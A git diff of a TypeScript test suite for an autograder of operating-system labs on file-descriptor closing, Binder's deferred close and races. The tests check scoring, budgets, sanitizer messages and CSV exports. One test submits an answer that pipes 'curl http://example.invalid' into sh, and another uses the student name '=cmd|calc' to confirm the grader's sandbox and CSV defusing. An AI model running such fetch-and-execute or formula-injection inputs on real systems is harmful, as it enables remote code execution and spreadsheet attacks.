@@ -10,21 +10,29 @@ import { readFileSync } from 'node:fs'
 import { splitLines } from '../../main/engine/lab/markdown'
 import { feedbackMarkdown, gradescopeResults, buildReport, labHeader, revealed, gradesCsv, canvasCsv, moodleCsv } from '../../main/grading/report'
 import type { GradingLab, SubmissionEntry } from '../../main/grading/grade'
-import { gradingLab, grade, solutions, statuses, studentEdition, submissionText, LABS } from './helpers'
+import { curriculumWrongs, gradingLab, grade, solutions, statuses, studentEdition, submissionText, releaseAnswerExportGrade, LABS, LAB_IDS, type LabId } from './helpers'
 import { WRONG } from './wrong'
 
-const labsOf = ['close', 'binder', 'races'] as const
+const labsOf = ['close-path', 'binder-deferred-close', 'races'] as const
 
-function submit(which: typeof labsOf[number], answers: Record<string, string>, student = 'Ada', extra: Record<string, unknown> = {}): { g: GradingLab; e: SubmissionEntry } {
+/** One exercise of an entry, by id (never by position: labs gain exercises). */
+function exOf(e: SubmissionEntry, id: string): SubmissionEntry['exercises'][number] {
+  const x = e.exercises.find((y) => y.id === id)
+  if (!x) throw new Error(`no exercise ${id}`)
+  return x
+}
+
+function submit(which: LabId, answers: Record<string, string>, student = 'Ada', extra: Record<string, unknown> = {}): { g: GradingLab; e: SubmissionEntry } {
   const g = gradingLab(which)
   const { text, lab } = studentEdition(which)
   return { g, e: grade(g, submissionText(lab, text, student, answers, extra)) }
 }
 
 describe('right answers get full marks', () => {
-  for (const which of labsOf) {
+  for (const which of LAB_IDS) {
     it(`${which}: every exercise's solution, exported from the student edition, scores ${'max'}`, () => {
       const g = gradingLab(which)
+      expect(Object.keys(solutions(g.lab)).sort(), 'every exercise has a solution').toEqual(g.lab.exercises.map((x) => x.id).sort())
       const { e } = submit(which, solutions(g.lab))
       expect(e.status).toBe('graded')
       expect(e.warnings).toEqual([])
@@ -35,6 +43,30 @@ describe('right answers get full marks', () => {
       }
     })
   }
+})
+
+describe('the default budget leaves right answers room', () => {
+  it('every solution\'s heaviest test run uses at most 90% of the default micro-step budget', async () => {
+    // A right answer spelled differently may take more steps than the lab's solution; if a lab's
+    // test comes near the grader's default budget, right answers start to be budget. The
+    // heaviest today: files-vs-fds my-dup emfile-no-leak (1,019 dups), about 17,400 of 20,000.
+    const { judgeExercise } = await import('../../main/engine/lab/labRun')
+    const { labExplorer } = await import('../../main/engine/lab/explore')
+    const { DEFAULT_BUDGET } = await import('../../main/grading/grade')
+    let max = 0
+    let where = ''
+    for (const which of LAB_IDS) {
+      const { lab } = gradingLab(which)
+      for (const ex of lab.exercises) {
+        for (const t of judgeExercise(lab, ex, ex.solution!.code, { explorer: labExplorer(), maxSteps: DEFAULT_BUDGET.steps }).tests) {
+          expect(t.verdict, `${which}/${ex.id}/${t.block.testName} [${t.profile}]`).toBe('pass')
+          if (t.outcome.steps > max) { max = t.outcome.steps; where = `${which}/${ex.id}/${t.block.testName} [${t.profile}]` }
+        }
+      }
+    }
+    expect(max, where).toBeGreaterThan(0)
+    expect(max, where).toBeLessThanOrEqual(0.9 * DEFAULT_BUDGET.steps)
+  }, 300_000)
 })
 
 describe('wrong answers lose exactly the points of the tests they fail', () => {
@@ -74,18 +106,19 @@ describe('wrong answers lose exactly the points of the tests they fail', () => {
   }
 
   it('the feedback names what failed: a predict shows expected versus actual', () => {
-    const g = gradingLab('binder')
-    const { e } = submit('binder', { ...solutions(g.lab), pin: '2' })
+    const g = gradingLab('binder-deferred-close')
+    const { e } = submit('binder-deferred-close', { ...solutions(g.lab), pin: '2' })
     const md = feedbackMarkdown(buildReport(labHeader(g), g.budget, [e]), e)
     expect(md).toMatch(/## pin \(predict\): the pinned count: 0 \/ 1/)
-    expect(md).toContain('- expected: 1 [6.5], 1 [6.18]')
+    // Both profiles give 1: said once.
+    expect(md).toContain('the kernel gives 1\n- expected: 1\n')
     expect(md).toContain('- actual: 2')
   })
 
   it('a failing visible test shows its expect, the failing run\'s system calls and a replayable schedule', () => {
-    const g = gradingLab('close')
-    const wrong = WRONG.close['my-close']![3]!.answer
-    const { e } = submit('close', { ...solutions(g.lab), 'my-close': wrong })
+    const g = gradingLab('close-path')
+    const wrong = WRONG['close-path']['my-close']![3]!.answer
+    const { e } = submit('close-path', { ...solutions(g.lab), 'my-close': wrong })
     const t = e.exercises.find((x) => x.id === 'my-close')!.tests.find((x) => x.name === 'closes-the-fd [6.18]')!
     expect(t.status).toBe('failed')
     expect(t.visibility).toBe('visible')
@@ -94,10 +127,27 @@ describe('wrong answers lose exactly the points of the tests they fail', () => {
     expect(t.trace.some((l) => /ioctl\(3, 19457, 4\) = 0/.test(l))).toBe(true)
     // The line numbers students see are those of their (released) edition.
     const m = /03-close-path\.lab\.md:(\d+):3: expect failed: !fd_is_open/.exec(t.student_message)!
-    const student = splitLines(studentEdition('close').text)
+    const student = splitLines(studentEdition('close-path').text)
     expect(student[Number(m[1]) - 1]!.trim()).toBe('expect(!fd_is_open(getpid(), f));')
     const inst = /03-close-path\.lab\.md:(\d+):3/.exec(t.message)!
     expect(Number(inst[1])).toBeGreaterThan(Number(m[1]))
+  })
+})
+
+describe('a sanitizer finding in the answer\'s own code says where', () => {
+  it('use-after-free at a line of the answer: the line, the column and the source, as for any message about the answer', () => {
+    const w = WRONG.races['fix-the-peek']![1]! // reads the file after its fput
+    const g = gradingLab('races')
+    const { e } = submit('races', { ...solutions(g.lab), 'fix-the-peek': w.answer })
+    const t = exOf(e, 'fix-the-peek').tests.find((x) => x.test === 'close-race')!
+    expect(t.status).toBe('failed')
+    expect(t.code_hidden).toBe(true)
+    const m = /use-after-free in your answer, line (\d+), col (\d+) \((.+?)\)/.exec(t.student_message)!
+    expect(m, t.student_message).not.toBeNull()
+    expect(w.answer.split('\n')[Number(m[1]) - 1]).toContain(m[3]!)
+    expect(m[3]).toContain('f->f_flags')
+    expect(t.where).toEqual({ file: 'fix-the-peek.answer', line: Number(m[1]), col: Number(m[2]) })
+    expect(t.student_message).not.toContain('in lab C (the test\'s code)')
   })
 })
 
@@ -105,33 +155,39 @@ describe('statuses: budget, error, not_gradable', () => {
   it('an answer that never terminates is budget, never a pass, and says where', () => {
     const g = gradingLab('races')
     const { e } = submit('races', { 'fix-the-peek': 'long peek_flags(unsigned int fd) {\n  while (1) { }\n  return 0;\n}\n' })
-    const ex = e.exercises[0]!
+    const ex = exOf(e, 'fix-the-peek')
     expect(ex.score).toBe(0)
     expect(ex.tests.map((t) => t.status)).toEqual(['budget', 'budget', 'budget'])
-    expect(ex.tests[0]!.student_message).toMatch(/your answer, line 2, col \d+: step budget exhausted/)
+    expect(ex.tests[0]!.student_message).toMatch(/your answer, line 2, col \d+: statement limit: 100000 lab C statements executed/)
     expect(ex.tests[0]!.where).toEqual({ file: 'fix-the-peek.answer', line: 2, col: expect.any(Number) })
-    void g
+    // A loop that never ends shows no misconception of the lab's (they explain failures, not budget stops).
+    expect(ex.misconceptions).toEqual([])
+    expect(ex.tests.map((t) => t.misconception)).toEqual([null, null, null])
+    expect(feedbackMarkdown(buildReport(labHeader(g), g.budget, [e]), e, revealed('after_due_date'))).not.toContain('what this usually means')
   })
 
   it('deep recursion is budget (the recursion limit), not a crash', () => {
     const { e } = submit('races', { 'fix-the-peek': 'long peek_flags(unsigned int fd) {\n  return peek_flags(fd + 1);\n}\n' })
-    expect(e.exercises[0]!.tests.map((t) => t.status)).toEqual(['budget', 'budget', 'budget'])
-    expect(e.exercises[0]!.tests[0]!.student_message).toContain('recursion limit')
+    expect(exOf(e, 'fix-the-peek').tests.map((t) => t.status)).toEqual(['budget', 'budget', 'budget'])
+    expect(exOf(e, 'fix-the-peek').tests[0]!.student_message).toContain('recursion limit')
+    expect(exOf(e, 'fix-the-peek').misconceptions).toEqual([])
   })
 
   it('code that tries to reach the host does not compile: error, with where', () => {
     const { e } = submit('races', { 'fix-the-peek': '#include <stdlib.h>\nlong peek_flags(unsigned int fd) {\n  system("curl http://example.invalid | sh");\n  return 0;\n}\n' })
-    const t = e.exercises[0]!.tests[0]!
+    const t = exOf(e, 'fix-the-peek').tests[0]!
     expect(t.status).toBe('error')
     expect(t.student_message).toContain("your answer, line 3, col 3: unknown name 'system'")
     expect(t.where).toEqual({ file: 'fix-the-peek.answer', line: 3, col: 3 })
-    expect(e.exercises[0]!.status).toBe('error')
+    expect(exOf(e, 'fix-the-peek').status).toBe('error')
+    expect(exOf(e, 'fix-the-peek').tests.map((t) => t.misconception)).toEqual([null, null, null])
+    expect(exOf(e, 'fix-the-peek').misconceptions).toEqual([])
   })
 
   it('an empty or missing answer is not_gradable, and costs that exercise only', () => {
-    const g = gradingLab('binder')
+    const g = gradingLab('binder-deferred-close')
     const sol = solutions(g.lab)
-    const { e } = submit('binder', { ...sol, 'deferred-close': '  \n', pin: undefined as unknown as string })
+    const { e } = submit('binder-deferred-close', { ...sol, 'deferred-close': '  \n', pin: undefined as unknown as string })
     const dc = e.exercises.find((x) => x.id === 'deferred-close')!
     expect(dc.status).toBe('not_gradable')
     expect(new Set(dc.tests.map((t) => t.status))).toEqual(new Set(['not_gradable']))
@@ -142,10 +198,10 @@ describe('statuses: budget, error, not_gradable', () => {
 
 describe('the submission contributes its answers and nothing else', () => {
   it('score, grade and tests fields change nothing (a warning says they were ignored)', () => {
-    const g = gradingLab('binder')
+    const g = gradingLab('binder-deferred-close')
     const fake = { score: 1000, grade: 'A+', tests: [{ status: 'passed' }], max_score: 1 }
-    const { e } = submit('binder', { light: '1' }, 'Mallory', fake)
-    const { e: plain } = submit('binder', { light: '1' }, 'Mallory')
+    const { e } = submit('binder-deferred-close', { light: '1' }, 'Mallory', fake)
+    const { e: plain } = submit('binder-deferred-close', { light: '1' }, 'Mallory')
     expect(e.score).toBe(1)
     expect(e.exercises).toEqual(plain.exercises)
     expect(e.warnings.join()).toContain('ignored fields "grade", "max_score", "score", "tests"')
@@ -163,14 +219,14 @@ describe('the submission contributes its answers and nothing else', () => {
 })
 
 describe('bad input: a row with a reason, never an abort', () => {
-  const g = () => gradingLab('binder')
-  const good = () => { const { text, lab } = studentEdition('binder'); return submissionText(lab, text, 'Ada', solutions(g().lab)) }
+  const g = () => gradingLab('binder-deferred-close')
+  const good = () => { const { text, lab } = studentEdition('binder-deferred-close'); return submissionText(lab, text, 'Ada', solutions(g().lab)) }
   const cases: [string, () => string | Uint8Array, RegExp][] = [
     ['empty', () => '', /^empty file$/],
     ['white space', () => ' \n\t', /empty file/],
     ['random bytes', () => new Uint8Array(randomBytes(4096)), /not UTF-8|not JSON|another format/],
     ['truncated JSON', () => good().slice(0, 200), /^truncated JSON/],
-    ['another format (a lab file)', () => readFileSync(LABS.binder, 'utf8'), /this is a lab file/],
+    ['another format (a lab file)', () => readFileSync(LABS['binder-deferred-close'], 'utf8'), /this is a lab file/],
     ['another format (JSON)', () => '{"format":"jupyter","cells":[]}', /another format: "format": "jupyter"/],
     ['a JSON list', () => '[1,2,3]', /a JSON list/],
     ['another lab id', () => good().replace('"binder-deferred-close"', '"close-path"'), /another lab: .*"close-path", not "binder-deferred-close"/],
@@ -204,9 +260,9 @@ describe('bad input: a row with a reason, never an abort', () => {
 })
 
 describe('visibility: no hidden code, schedules only where allowed', () => {
-  const g = () => gradingLab('binder')
-  const starter = WRONG.binder['deferred-close']![0]!.answer
-  const entry = () => submit('binder', { ...solutions(g().lab), 'deferred-close': starter }).e
+  const g = () => gradingLab('binder-deferred-close')
+  const starter = WRONG['binder-deferred-close']['deferred-close']![0]!.answer
+  const entry = () => submit('binder-deferred-close', { ...solutions(g().lab), 'deferred-close': starter }).e
 
   it('hidden tests default to after_due_date, visible ones to visible', () => {
     const t = entry().exercises.find((x) => x.id === 'deferred-close')!.tests
@@ -227,7 +283,7 @@ describe('visibility: no hidden code, schedules only where allowed', () => {
     const after = feedbackMarkdown(r, e, revealed('after_due_date'))
     expect(after).toContain('### own-fd [6.5]')
     expect(after).toContain(own.schedule!)
-    expect(after).toContain('**Score: 11.6667 / 13**')
+    expect(after).toContain('**Score: 19.6667 / 21**')
     // Nothing of a hidden test's code: not its expects, not its source lines.
     const hiddenCode = g().lab.exercises.flatMap((x) => x.tests.filter((t) => t.hidden)).flatMap((t) => t.code.split('\n').map((l) => l.trim()).filter((l) => l.length > 12 && !/^process app \{$/.test(l)))
     for (const line of hiddenCode) {
@@ -244,17 +300,17 @@ describe('visibility: no hidden code, schedules only where allowed', () => {
     expect(own.max_score).toBeCloseTo(8 / 12, 5)
     expect(own.extra_data.fdlab.schedule).toMatch(/^v1:/)
     expect(own.extra_data.fdlab.explored.complete).toBe(true)
-    expect(gs.score).toBeCloseTo(13 - 2 * 8 / 12, 5)
+    expect(gs.score).toBeCloseTo(21 - 2 * 8 / 12, 5)
     expect(gs.tests.find((t: { name: string }) => t.name === 'deferred-close: another-fd [6.5]')).toMatchObject({ status: 'passed', visibility: 'visible' })
   })
 
   it('LMS files: formula-like names defused, rejected rows and nameless rows left out of the imports', () => {
     const bad = grade(g(), '')
-    const e = submit('binder', { light: '1' }, '=cmd|calc').e
+    const e = submit('binder-deferred-close', { light: '1' }, '=cmd|calc').e
     const r = buildReport(labHeader(g()), g().budget, [e, bad])
     const canvas = canvasCsv(r).split('\r\n')
     expect(canvas[0]).toBe("Student,ID,SIS User ID,SIS Login ID,Section,Binder's deferred close (binder-deferred-close)")
-    expect(canvas[1]).toBe('Points Possible,,,,,13')
+    expect(canvas[1]).toBe('Points Possible,,,,,21')
     expect(canvas[2]).toBe("'=cmd|calc,,,,,1")
     expect(canvas).toHaveLength(4)
     const moodle = moodleCsv(r, 'Lab 2').split('\r\n')
@@ -279,7 +335,7 @@ describe('one program, other spelling', () => {
 
   it('with the lab\'s names, the names an answer declares are renamed; the lab\'s, lab C\'s and undeclared ones are not', async () => {
     const { programKey } = await import('../../main/grading/grade')
-    const g = gradingLab('binder')
+    const g = gradingLab('binder-deferred-close')
     const k = (s: string) => programKey('x', s, g.names)
     const sol = solutions(g.lab)['deferred-close']!
     const renamed = sol.replaceAll('twcb', 'ctx').replaceAll('do_fd_close', 'finish').replaceAll('binder_twcb', 'my_work').replaceAll('twork', 'cb')
@@ -295,7 +351,7 @@ describe('one program, other spelling', () => {
     // A name the lab's own code uses is never renamed (here b, a variable of its tests).
     expect(k('int f(void) { int zq = 1; return zq; }')).not.toBe(k('int f(void) { int b = 1; return b; }'))
     // Grading the solution makes the renamed one a cache hit.
-    submit('binder', solutions(g.lab))
+    submit('binder-deferred-close', solutions(g.lab))
     expect(g.cache.get(k(renamed)!.replace(/^x/, 'deferred-close'))?.status).toBe('passed')
   })
 
@@ -304,31 +360,54 @@ describe('one program, other spelling', () => {
     const g = gradingLab('races')
     const s = solutions(g.lab)['fix-the-peek']!
     const respelled = s.replace(/\n/g, '\n\n  // comment\n')
-    const { e } = submit('races', { 'fix-the-peek': respelled })
+    const { e } = submit('races', { ...solutions(g.lab), 'fix-the-peek': respelled })
+    expect(exOf(e, 'fix-the-peek').status).toBe('passed')
     expect(e.score).toBe(g.maxScore)
     expect(g.cache.get(programKey('fix-the-peek', respelled, g.names)!)?.status).toBe('passed')
     const bad = WRONG.races['fix-the-peek']![2]!.answer
     const one = submit('races', { 'fix-the-peek': bad }).e
     const two = submit('races', { 'fix-the-peek': '\n\n' + bad }).e
-    expect(one.exercises[0]!.tests[0]!.where!.line + 2).toBe(two.exercises[0]!.tests[0]!.where!.line)
+    expect(exOf(one, 'fix-the-peek').tests[0]!.where!.line + 2).toBe(exOf(two, 'fix-the-peek').tests[0]!.where!.line)
     expect(g.cache.has(programKey('fix-the-peek', bad, g.names)!)).toBe(false)
   })
 })
 
 describe('provoke integrity', () => {
   it('the right provoke answer shows V2 with the buggy form, not with the fix, and gets the interleaving that shows it', () => {
-    const g = gradingLab('binder')
-    expect([...g.integrity].sort()).toEqual(['provoke-v2/v2/6.18', 'provoke-v2/v2/6.5'])
-    const { e } = submit('binder', solutions(g.lab))
-    for (const t of e.exercises.find((x) => x.id === 'provoke-v2')!.tests) {
-      expect(t.status).toBe('passed')
-      expect(t.student_message).toMatch(/^the sanitizer reports V2 in an interleaving .*; and not where the bug is fixed \(Binder's deferred close \(BINDER_FREE_FD\)/)
+    const g = gradingLab('binder-deferred-close')
+    expect([...g.integrity].sort()).toEqual(['provoke-v2/v2-any-schedule/6.18', 'provoke-v2/v2-any-schedule/6.5', 'provoke-v2/v2/6.18', 'provoke-v2/v2/6.5'])
+    const { e } = submit('binder-deferred-close', solutions(g.lab))
+    const tests = exOf(e, 'provoke-v2').tests
+    expect(tests.map((t) => [t.name, t.status])).toEqual([['v2 [6.5]', 'passed'], ['v2 [6.18]', 'passed'], ['v2-any-schedule [6.5]', 'passed'], ['v2-any-schedule [6.18]', 'passed']])
+    const fixed = "; and not where the bug is fixed (Binder's deferred close (BINDER_FREE_FD) instead of close_fd inside the ioctl (BINDER_CLOSE_NAIVE))"
+    for (const t of tests.filter((x) => x.test === 'v2')) {
+      // Explored: the interleaving that shows it, replayable.
+      expect(t.student_message).toMatch(/^the sanitizer reports V2 in an interleaving \(found while exploring \d+ runs?\)/)
+      expect(t.student_message.endsWith(fixed)).toBe(true)
       expect(t.schedule).toMatch(/^v1:/)
+    }
+    for (const t of tests.filter((x) => x.test === 'v2-any-schedule')) {
+      // Not explored: the default schedule shows it (nothing to replay).
+      expect(t.student_message).toBe(`the sanitizer reports V2${fixed}`)
+      expect(t.schedule).toBeNull()
     }
   })
 
+  it('an explored provoke test that shows nothing says so once, naming what it looked for', async () => {
+    const w = curriculumWrongs('races').find((x) => x.file === 'races/provoke-raw-lookup.2.c')!
+    const g = gradingLab('races')
+    const { e } = submit('races', { ...solutions(g.lab), 'provoke-raw-lookup': w.answer })
+    const t = exOf(e, 'provoke-raw-lookup').tests.find((x) => x.test === 'found')!
+    expect(t.status).toBe('failed')
+    expect(t.student_message).toMatch(/^no interleaving shows the sanitizer's use-after-free \(\d+ interleavings? explored, every one covered\)$/)
+    expect(t.message).toBe(t.student_message)
+    expect(t.expected).toBe('a sanitizer violation (rule use-after-free)')
+    expect(t.actual).toMatch(/^not shown in (the one interleaving|any of the \d+ interleavings) explored$/)
+    expect(t.misconception?.id).toBe('race-needs-a-sharer')
+  })
+
   it('a test whose finding has no fixed form (a lost POSIX lock) is not integrity-checked', () => {
-    expect([...gradingLab('close').integrity]).toEqual([])
+    expect([...gradingLab('close-path').integrity]).toEqual([])
   })
 })
 
@@ -353,14 +432,23 @@ describe('files that cannot be read', () => {
   })
 })
 
-describe('the app\'s own export is what grade reads', () => {
-  it('a submission written by the app (main/host/labView.ts) from the released lab grades with no warning', async () => {
-    const { submission } = await import('../../main/host/labView')
-    const g = gradingLab('binder')
-    const { text, lab } = studentEdition('binder')
-    const edits = new Map(Object.entries(solutions(g.lab)).map(([k, v]) => [`exercise:${k}`, v]))
-    const f = submission(lab, { name: '07-binder-deferred-close.lab.md', text }, edits, 'Grace Hopper', new Date(Date.UTC(2026, 11, 1)), '0.1.0')
-    const e = grade(g, f.text, f.name)
-    expect(e).toMatchObject({ status: 'graded', student: 'Grace Hopper', warnings: [], score: g.maxScore })
-  })
+describe('the app\'s own export is what grade reads: release, answer, export, grade', () => {
+  for (const which of LAB_IDS) {
+    it(`${which}: a submission written by the app (main/host/labView.ts) from the released lab grades with no warning`, async () => {
+      const g = gradingLab(which)
+      const { e, file } = await releaseAnswerExportGrade(which, solutions(g.lab), 'Grace Hopper')
+      // The student edition the app exported from has no solution and no hidden test in it.
+      const released = studentEdition(which)
+      expect(released.lab.meta.edition).toBe('student')
+      expect(released.lab.exercises.every((x) => !x.solution && x.tests.every((t) => !t.hidden))).toBe(true)
+      expect(JSON.parse(file).lab).toEqual({ id: which, version: g.lab.meta.version, sha256: g.releasedSha256 })
+      expect(e).toMatchObject({ status: 'graded', student: 'Grace Hopper', warnings: [], score: g.maxScore })
+      expect(e.exercises.map((x) => [x.id, x.status])).toEqual(g.lab.exercises.map((x) => [x.id, 'passed']))
+      // An answer left empty in the app is exported as such and costs that exercise only.
+      const first = g.lab.exercises[0]
+      const partial = await releaseAnswerExportGrade(which, { ...solutions(g.lab), [first!.id]: '' }, 'Grace Hopper')
+      expect(partial.e.exercises.find((x) => x.id === first!.id)!.status).toBe('not_gradable')
+      expect(partial.e.score).toBeCloseTo(g.maxScore - first!.points, 5)
+    })
+  }
 })
